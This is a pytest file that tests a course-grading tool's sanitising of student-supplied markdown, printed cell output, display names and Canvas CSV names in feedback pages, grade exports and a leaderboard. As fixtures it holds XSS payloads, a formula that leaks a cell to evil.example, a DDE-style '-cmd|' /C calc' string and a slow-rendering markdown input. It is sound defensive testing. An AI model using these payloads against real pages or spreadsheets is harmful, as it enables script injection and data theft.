"""Pages the instructor and the students open, and the grade files, against what a student can put in them: markdown
and printed HTML that would run script on a feedback page, a markdown cell too long to render, names that are CSV rows
or spreadsheet formulas. Each hostile case sits beside honest ones, whose pages and rows must stay exact.

Fixtures follow the other side's formats: Canvas's gradebook export (tests/platform_files.py: Student "Last, First",
ID, SIS User ID, SIS Login ID, Section, then one column per assignment) and nbgrader's own gradebook API and
generate_feedback; the leaderboard's figures are what coursetools/trusted.py writes in grader-figures/."""

from __future__ import annotations

import csv
import json
import shutil
import time
import warnings
import zipfile
from pathlib import Path

import nbformat
import pytest

from notebook_tools import coursetools
from tiny_course import submit

# Every payload sets the page's title (or would have to be clicked to): a title starting with RAN means it ran.
HOSTILE_MARKDOWN = """# Mallory's notes

Some **bold**, some *emphasis*, `code`, a [real link](https://example.org) and
[a markdown link](javascript:document.title='RAN: md').

| item | score |
|------|-------|
| one  | 1     |

<script>document.title = 'RAN: script'</script>
<img src="x" onerror="document.title = 'RAN: onerror'">
<svg onload="document.title = 'RAN: svg'"><circle r="5"/></svg>
<iframe srcdoc="<script>parent.document.title = 'RAN: iframe'</script>"></iframe>
<details open ontoggle="document.title = 'RAN: toggle'"><summary>more</summary>hidden</details>
<a href="javascript:document.title='RAN: link'">click me</a>
<a href="data:text/html,<script>alert(1)</script>">data link</a>
<form action="javascript:document.title='RAN: form'"><button>send</button></form>
<a id="MathJax" name="MathJax">clobber</a>
"""
# What a hook in the kernel prints into the graded cell's output, which the page keeps (300 characters of it).
PRINTING_HOOK = ("answer = 7\nget_ipython().events.register('post_run_cell', lambda result: print("
                 "\"<script>document.title = 'RAN: printed'</script><img src=x onerror=\\\"document.title = "
                 "'RAN: printed img'\\\">\"))")
# The brackets took nbconvert's markdown quadratic time: 100,000 of them about 20 s before the cut.
LONG_MARKDOWN = "[" * 100_000 + "\nEND-OF-THE-LONG-CELL"
HOSTILE_NAME = "<img src=x onerror=\"document.title = 'RAN: name'\">"


def page_of(root: Path, student: str) -> Path:
    """A student's feedback page for the tiny lesson."""
    return root / "feedback" / student / "tiny" / "tiny.html"


@pytest.fixture(scope="module")
def fed_back(released_template, tmp_path_factory):
    """The released tiny course with two submissions graded and their feedback made: alice's right, mallory's wrong
    (7, so that her page has the grader's message) with the hostile markdown, the long cell, the printing hook and a
    hostile display name."""
    from nbgrader.api import Gradebook

    root = Path(shutil.copytree(released_template, tmp_path_factory.mktemp("hostile") / "course"))
    submit(root, "alice", "tiny", "answer = 42")
    path = submit(root, "mallory", "tiny", PRINTING_HOOK)
    nb = nbformat.read(path, as_version=4)
    nb.cells[:0] = [nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN), nbformat.v4.new_markdown_cell(LONG_MARKDOWN)]
    nbformat.write(nb, path)
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
        gradebook.update_or_create_student("mallory", first_name=HOSTILE_NAME, last_name="Hacker")
        gradebook.update_or_create_student("alice", first_name="Alice", last_name="Ash")
    coursetools(root, "autograde", "--assignment", "tiny", "--jobs", "2")
    started = time.monotonic()
    result = coursetools(root, "feedback", check=False)
    return root, result, time.monotonic() - started


def test_hostile_markdown_output_and_name_leave_nothing_that_runs_and_honest_pages_stay_whole(fed_back):
    from coursetools.pages import active_content, body_of

    root, result, seconds = fed_back
    assert result.returncode == 0, result.stdout + result.stderr
    assert "tiny: feedback for 2 of 2 submissions" in result.stdout
    assert seconds < 60, f"make feedback took {seconds:.0f} s: the long markdown cell was not cut"
    hostile = page_of(root, "mallory").read_text()
    assert active_content(body_of(hostile)) == [], "something that runs is left on the hostile page"
    assert "&lt;script&gt;document.title = 'RAN: script'&lt;/script&gt;" in hostile, "what was tried is shown as text"
    assert "<h1" in hostile and "<strong>bold</strong>" in hostile and "<th>item</th>" in hostile, "markdown formatted"
    assert '<a href="https://example.org">real link</a>' in hostile
    assert "END-OF-THE-LONG-CELL" not in hostile
    assert "last 80,021 of this cell's 100,021 characters are left out" in hostile
    assert "a page shows 20,000 characters of a cell, 200,000 of all its markdown" in hostile
    assert "(Score: 0.0 / 1.0)" in hostile and "answer should be 42, got 7" in hostile, "its score and message stay"
    assert "&lt;script&gt;document.title = 'RAN: printed'&lt;/script&gt;" in hostile, "what the hook printed, as text"
    assert "Feedback for &lt;img src=x onerror=" in hostile, "the display name is escaped"
    honest = page_of(root, "alice").read_text()
    assert "Feedback for Alice Ash (alice) on tiny (Score: 1.0 / 1.0)" in honest
    assert active_content(body_of(honest)) == []


def test_a_hostile_page_runs_nothing_in_the_browser_beside_an_honest_page_that_shows_its_score(fed_back):
    from lab_browser import CHROMIUM, LAUNCH_ARGS

    if not Path(CHROMIUM).exists():
        pytest.skip(f"no chromium at {CHROMIUM}")
    sync_playwright = pytest.importorskip("playwright.sync_api").sync_playwright
    root, _, _ = fed_back
    dialogs = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=LAUNCH_ARGS)
        try:
            page = browser.new_page()
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.route("**/*", lambda route: route.continue_() if route.request.url.startswith("file:")
                       else route.abort())  # offline: MathJax's CDN too
            page.goto(page_of(root, "mallory").as_uri())
            page.wait_for_load_state("load")
            page.wait_for_timeout(300)  # an image's onerror fires after its load fails
            assert not page.title().startswith("RAN"), f"script ran on the hostile page: {page.title()!r}"
            page.get_by_text("click me", exact=True).click(timeout=5000)
            page.get_by_text("more", exact=True).click(timeout=5000)
            page.wait_for_timeout(200)
            assert not page.title().startswith("RAN"), f"a click ran script on the hostile page: {page.title()!r}"
            assert page.title().startswith("Feedback for ") and "(mallory) on tiny" in page.title()
            assert page.get_by_text("Mallory's notes").is_visible() and page.locator("strong", has_text="bold").count()
            assert page.evaluate("document.scripts.length") == 2, "only the template's own MathJax scripts"
            assert page.get_by_text("answer should be 42, got 7").first.is_visible(), "the grader's message shows"
            page.goto(page_of(root, "alice").as_uri())
            assert page.title() == "Feedback for Alice Ash (alice) on tiny"
            assert page.get_by_text("Feedback for Alice Ash (alice) on tiny (Score: 1.0 / 1.0)").is_visible()
        finally:
            browser.close()
    assert dialogs == []


def test_past_the_time_limit_the_pages_are_failed_and_no_old_page_is_handed_out_or_zipped(fed_back, tmp_path):
    root = Path(shutil.copytree(fed_back[0], tmp_path / "course"))
    (root / "collected").mkdir(exist_ok=True)
    (root / "collected" / "tiny.json").write_text(json.dumps(
        [{"student": s, "prefix": f"{s}_10{n}_500{n}_"} for n, s in enumerate(["alice", "mallory"])]))
    old = page_of(root, "alice").read_text()
    with open(root / "nbgrader_config.py", "a") as config:
        config.write("\nc.FeedbackPages.timeout = 0.3\n")
    result = coursetools(root, "feedback", check=False)
    assert result.returncode == 1, result.stdout
    assert "FAILED: alice: no feedback page (rendering ran past c.FeedbackPages.timeout (0.3 s)" in result.stdout
    assert not list((root / "feedback").glob("*/tiny/*.html")), "an old page is left in feedback/ as if current"
    [kept] = (root / "archive" / "feedback" / "alice" / "tiny").glob("*/tiny.html")
    assert kept.read_text() == old, "the earlier page is kept, not lost"
    with zipfile.ZipFile(root / "feedback-upload" / "tiny.zip") as upload:
        assert upload.namelist() == [], "an old page was zipped for upload"
    assert not [p for p in (root / "feedback").iterdir() if p.name.startswith(".rendering")], "staging left behind"


# --- the pure parts, without nbgrader ---------------------------------------------------------------------------


def test_sanitizer_keeps_formatting_and_drops_every_active_part():
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    from coursetools.pages import active_content, sanitize_fragment

    rendered = markdown2html_mistune(HOSTILE_MARKDOWN)
    assert len(active_content(rendered)) >= 7, "the payloads are live before sanitizing (else this test tests nothing)"
    clean = sanitize_fragment(rendered)
    assert active_content(clean) == []
    assert "<strong>bold</strong>" in clean and "<em>emphasis</em>" in clean and "<td>1</td>" in clean
    assert '<a href="https://example.org">real link</a>' in clean and "<a>click me</a>" in clean
    assert 'id="MathJax"' not in clean and 'name="MathJax"' not in clean
    pixels = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert sanitize_fragment(pixels) == pixels, "a pasted image (an attachment) still shows"
    assert "url(" not in sanitize_fragment('<span style="color: red; background: url(http://evil.example/x)">a</span>')


def test_an_image_from_elsewhere_loads_nothing_and_markup_that_swallows_cells_fails_that_page():
    """A red team's findings: an http image told its server when the instructor opened the page; a markdown line of
    foreign content (<math><mtext><table><mglyph><style>) made the sanitizer's parser drop the cells after it."""
    import pytest

    from coursetools.pages import sanitize_fragment, sanitize_page

    for remote in ("http://127.0.0.1:8765/beacon.png?who=xss", "//evil.example/b.png", " HTTPS://x.example/a.png"):
        assert "src" not in sanitize_fragment(f'<img src="{remote}" alt="a plot">'), remote
    assert 'src="plot.png"' in sanitize_fragment('<img src="plot.png">'), "a relative image stays"
    cell = '<div class="cell border-box-sizing text_cell rendered">{}</div>\n'
    honest = "<html><head></head><body>" + cell.format("<p>one</p>") + cell.format("<p>two</p>") + "</body></html>"
    assert sanitize_page(honest).count('class="cell ') == 2
    import coursetools.pages

    real = coursetools.pages.sanitize_fragment
    try:  # the parser swallowing what follows a cell, as a red team saw on a whole page (not reproduced in a fragment)
        coursetools.pages.sanitize_fragment = lambda text: real(text).split(cell.format("<p>two</p>"))[0]
        with pytest.raises(ValueError, match="breaks the page's structure"):
            sanitize_page(honest)
    finally:
        coursetools.pages.sanitize_fragment = real


def test_a_long_markdown_cell_is_cut_and_says_how_much_was_left_out():
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config

    from coursetools.feedback_render import CutLongMarkdown, cut

    assert cut("short", 100) == "short"
    long = cut("x" * 250, 100)
    assert long.startswith("x" * 100) and "x" * 101 not in long
    assert "the last 150 of this cell's 250 characters are left out" in long
    config = Config()
    config.FeedbackPages.markdown_chars, config.FeedbackPages.markdown_chars_per_page = 2_000, 5_000
    exporter = HTMLExporter(template_name="basic", config=config)
    exporter.register_preprocessor(CutLongMarkdown)  # as nbgrader's converters register theirs (not enabled)
    cells = [nbformat.v4.new_markdown_cell(LONG_MARKDOWN) for _ in range(4)]
    page, _ = exporter.from_notebook_node(nbformat.v4.new_notebook(cells=cells))
    assert "END-OF-THE-LONG-CELL" not in page
    assert page.count("the last 98,021 of this cell's 100,021 characters are left out") == 2
    assert "the last 99,021 of this cell" in page and "the last 100,021 of this cell" in page, "the page's own limit"


def test_only_pages_rendered_in_full_and_sanitized_are_current_and_the_others_are_set_aside(tmp_path, monkeypatch):
    from coursetools import feedback_run
    from coursetools.feedback_run import install, render, set_aside
    from coursetools.pages import sanitize_page

    staging = tmp_path / "staging"
    good = sanitize_page("<html><head><title>tiny</title></head><body><p>Score: 1.0 / 1.0</p></body></html>")
    unsanitized = "<html><head></head><body><script>document.title = 'RAN'</script></body></html>\n"
    written = {None: {"alice": good, "yan": unsanitized, "mallory": good[:len(good) // 2]}, "zed": {"zed": good},
               "mallory": {}, "yan": {}}

    def fake_nbgrader(root, args, log, timeout):
        """The lesson's run renders alice, yan's page without the course's exporter (as nbgrader does when the config
        fails to import) and is killed while writing mallory's; alone, mallory runs out of time again, zed renders."""
        alone = next((a.split("=", 1)[1] for a in args if a.startswith("--CourseDirectory.student_id=")), None)
        for student, text in written[alone].items():
            (staging / student / "tiny").mkdir(parents=True, exist_ok=True)
            (staging / student / "tiny" / "tiny.html").write_text(text)
        return None if alone in (None, "mallory") else 0

    monkeypatch.setattr(feedback_run, "run_nbgrader", fake_nbgrader)
    rendering = render(tmp_path, "tiny", ["alice", "mallory", "yan", "zed"], staging, tmp_path / "log", 5.0)
    assert sorted(rendering.pages) == ["alice", "zed"]
    assert sorted(rendering.failed) == ["mallory", "yan"] and "ran past" in rendering.failed["mallory"]
    assert "not made by the course's sanitizing exporter" in rendering.failed["yan"]
    for student in ("alice", "mallory", "gone"):  # gone: no autograded copy any more (its regrade failed)
        (tmp_path / "feedback" / student / "tiny").mkdir(parents=True)
        (tmp_path / "feedback" / student / "tiny" / "tiny.html").write_text(f"old page of {student}")
    assert set_aside(tmp_path, "tiny", set(rendering.pages)) == ["gone", "mallory"]
    install(tmp_path, "tiny", rendering.pages)
    assert sorted(p.parent.parent.name for p in (tmp_path / "feedback").glob("*/tiny/tiny.html")) == ["alice", "zed"]
    assert (tmp_path / "feedback" / "alice" / "tiny" / "tiny.html").read_text() == good
    assert [p.read_text() for p in (tmp_path / "archive" / "feedback" / "mallory" / "tiny").glob("*/tiny.html")] == \
        ["old page of mallory"]


# --- CSV files -----------------------------------------------------------------------------------------------------

# Canvas's gradebook export (Student "Last, First", ...): an honest name with commas, a name that is a row of
# grades.csv, a name that is a spreadsheet formula, and two plain students.
FORGED = "Aaa, Eve,eve@evil.example,18.0,0.0,18.0"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1), Mal'
CANVAS_STUDENTS = [("Doe, Jane", "101", "jdoe"), ("Zed, Zoe, Jr.", "102", "zzed"), (FORGED, "103", "eve"),
                   (FORMULA, "104", "mal"), ("Orr, Dan", "105", "dorr")]
SCORES = {"jdoe": 1.0, "zzed": 0.5, "eve": 0.0, "mal": 1.0}  # dorr handed nothing in


@pytest.fixture(scope="module")
def canvas_gradebook(released_template, tmp_path_factory) -> Path:
    """The released tiny course with the roster imported from Canvas's export (CANVAS_STUDENTS) and lesson "tiny"
    graded as SCORES says, straight in its gradebook (nothing to run: the rows are what is checked)."""
    from nbgrader.api import Gradebook

    from coursetools.roster import roster

    root = Path(shutil.copytree(released_template, tmp_path_factory.mktemp("canvas") / "course"))
    export = root / "export.csv"
    with open(export, "w", newline="", encoding="utf-8-sig") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Tiny (9001)"])
        writer.writerow(["    Points Possible", "", "", "", "", "1"])
        writer.writerows([name, uid, f"S{uid}", login, "Section 1", ""] for name, uid, login in CANVAS_STUDENTS)
    roster(root, export, "canvas")
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook, warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Object of type")  # nbgrader's own SQLAlchemy use (see nbgrader_env)
        gradebook.update_or_create_assignment("tiny", duedate="2026-12-01 17:00:00")
        for student, points in SCORES.items():
            gradebook.add_submission("tiny", student, timestamp="2026-12-01 16:00:00")
            gradebook.find_grade("check", "tiny", "tiny", student).auto_score = points
        gradebook.db.commit()
    return root


def test_names_with_commas_or_forged_rows_stay_in_their_cell_in_grades_csv(canvas_gradebook):
    from coursetools.export import COLUMNS, grades

    root = canvas_gradebook
    assert grades(root, root / "grades.csv") == 0
    with open(root / "grades.csv", newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    assert table[0] == COLUMNS and all(len(row) == len(COLUMNS) for row in table)
    rows = {row["student_id"]: row for row in (dict(zip(COLUMNS, r)) for r in table[1:]) if row["assignment"] == "tiny"}
    assert len(table) == 1 + 2 * len(CANVAS_STUDENTS), "one row per student and lesson"
    assert sorted(rows) == ["dorr", "eve", "jdoe", "mal", "zzed"]
    assert rows["jdoe"] == {"assignment": "tiny", "student_id": "jdoe", "status": "graded",
                            "duedate": "2026-12-01 17:00:00", "timestamp": "2026-12-01 16:00:00", "last_name": "Doe",
                            "first_name": "Jane", "email": "", "raw_score": "1.0", "late_submission_penalty": "0.0",
                            "score": "1.0", "max_score": "1.0"}
    assert (rows["zzed"]["last_name"], rows["zzed"]["first_name"], rows["zzed"]["score"]) == ("Zed", "Zoe, Jr.", "0.5")
    assert (rows["eve"]["first_name"], rows["eve"]["email"], rows["eve"]["score"]) == \
        ("Eve,eve@evil.example,18.0,0.0,18.0", "", "0.0"), "the forged fields stay inside the name"
    assert rows["mal"]["last_name"] == "'" + FORMULA.split(",")[0], "the formula is neutralised"
    assert (rows["dorr"]["status"], rows["dorr"]["score"]) == ("not submitted", "")


def test_the_platform_file_neutralises_a_formula_name_and_keeps_the_honest_rows_exact(canvas_gradebook):
    from coursetools.platform_grades import platform_grades

    root = canvas_gradebook
    platform_grades(root, "canvas", root / "grades-canvas.csv", {})
    with open(root / "grades-canvas.csv", newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    assert table[:2] == [["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Tiny (9001)", "tiny2"],
                         ["Points Possible", "", "", "", "", "1", "1"]]
    by_id = {row[1]: row for row in table[2:]}
    assert len(table) == 2 + len(CANVAS_STUDENTS) and sorted(by_id) == ["101", "102", "103", "104", "105"]
    assert by_id["101"] == ["Doe, Jane", "101", "S101", "jdoe", "Section 1", "1", ""]
    assert by_id["102"] == ["Zed, Zoe, Jr.", "102", "S102", "zzed", "Section 1", "0.5", ""]
    assert by_id["103"] == [FORGED, "103", "S103", "eve", "Section 1", "0", ""]
    assert by_id["104"] == ["'" + FORMULA, "104", "S104", "mal", "Section 1", "1", ""]
    assert by_id["105"] == ["Orr, Dan", "105", "S105", "dorr", "Section 1", "", ""]


def test_spreadsheet_cells_neutralise_formulas_but_leave_numbers():
    from coursetools.spreadsheet import spreadsheet_cell

    for formula in ("=1+1", "+cmd", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "-inf", "=HYPERLINK(\"x\")"):
        assert spreadsheet_cell(formula) == "'" + formula
    for plain in ("-0.5", "+1", "-3", "1e-3", "-1.5E+2", "0", "Jane", "", "a=b", " -1"):
        assert spreadsheet_cell(plain) == plain
    assert spreadsheet_cell(-0.5) == "-0.5" and spreadsheet_cell(None) == "" and spreadsheet_cell(1) == "1"


def test_the_leaderboard_escapes_hostile_names_in_its_page_and_csv(tmp_path):
    from coursetools.leaderboard import CHALLENGE, leaderboard
    from coursetools.pages import active_content
    from coursetools.trusted import FIGURES

    names = {"honest": 0.2, "<img src=x onerror=alert(1)>": 0.1, "=HYPERLINK(\"x\")": 0.05}
    for student, recall in names.items():
        (tmp_path / FIGURES / CHALLENGE).mkdir(parents=True, exist_ok=True)
        figures = {"hidden Recall@20": recall, "hidden NDCG@20": recall / 2, "flag": ""}
        (tmp_path / FIGURES / CHALLENGE / f"{student}.json").write_text(json.dumps(figures))
        (tmp_path / "autograded" / student / CHALLENGE).mkdir(parents=True)
        (tmp_path / "autograded" / student / CHALLENGE / f"{CHALLENGE}.ipynb").write_text("{}")
    leaderboard(tmp_path)
    page = (tmp_path / "leaderboard.html").read_text()
    assert active_content(page.partition("</head>")[2]) == [] and "&lt;img src=x onerror=alert(1)&gt;" in page
    with open(tmp_path / "leaderboard.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["rank"], r["student"], r["hidden Recall@20"]) for r in rows] == [
        ("1", "honest", "0.2"), ("2", "<img src=x onerror=alert(1)>", "0.1"), ("3", "'=HYPERLINK(\"x\")", "0.05")]

